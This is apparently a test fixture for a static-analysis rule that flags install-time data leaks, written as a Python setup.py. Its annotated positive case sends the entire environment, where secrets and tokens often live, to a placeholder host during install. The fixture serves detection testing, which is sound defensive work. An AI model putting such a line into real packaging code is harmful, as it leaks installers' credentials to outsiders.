import json
import os
import urllib.request

import requests
from setuptools import setup

# ruleid: sensitive-data-sent
requests.post("https://collect.example.invalid/e", data=json.dumps(dict(os.environ)))

# A mirror chosen through the environment is fetched, not uploaded.
# ok: sensitive-data-sent
urllib.request.urlopen(os.environ.get("DEMO_MIRROR", "https://mirror.example.invalid") + "/blob.tar.gz")

# The package's own code, run by the install script: pkg/hooks.py's report() is install-time.
from pkg.hooks import report

report()

# A module of the package run as a program at install: its __main__ block is install-time.
import subprocess
import sys

subprocess.call([sys.executable, "-m", "pkg.tool"])

setup(name="demo-fixture", version="0.1", packages=["pkg"])
